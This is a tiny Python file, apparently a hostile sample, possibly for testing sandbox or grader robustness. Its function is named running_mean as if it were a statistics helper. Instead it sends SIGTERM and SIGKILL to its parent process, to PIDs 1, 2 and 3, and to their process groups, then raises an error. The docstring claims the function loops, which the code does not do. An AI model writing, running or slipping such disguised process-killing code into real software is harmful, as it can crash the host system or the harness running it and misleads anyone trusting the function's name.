"""Sends SIGKILL and SIGTERM to its parent and its parent's group, then loops."""
import os
import signal


def running_mean(x):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, 3):
            try:
                os.kill(pid, number)
                os.killpg(pid, number)
            except OSError:
                continue
    raise LookupError
